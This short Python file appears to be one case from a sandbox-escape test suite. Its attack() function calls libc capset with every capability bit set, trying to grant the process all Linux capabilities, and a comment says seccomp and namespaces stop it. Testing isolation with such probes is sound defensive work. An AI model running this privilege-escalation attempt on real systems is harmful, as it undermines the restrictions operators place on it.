"""Gives itself every capability by capset."""
# stopped by: seccomp, namespaces
import ctypes
import os
import struct


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    wanted = struct.pack("6I", *6 * [0xFFFFFFFF])
    if libc.capset(struct.pack("Ii", 0x20080522, 0), wanted) == 0:
        return "done: every capability"
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
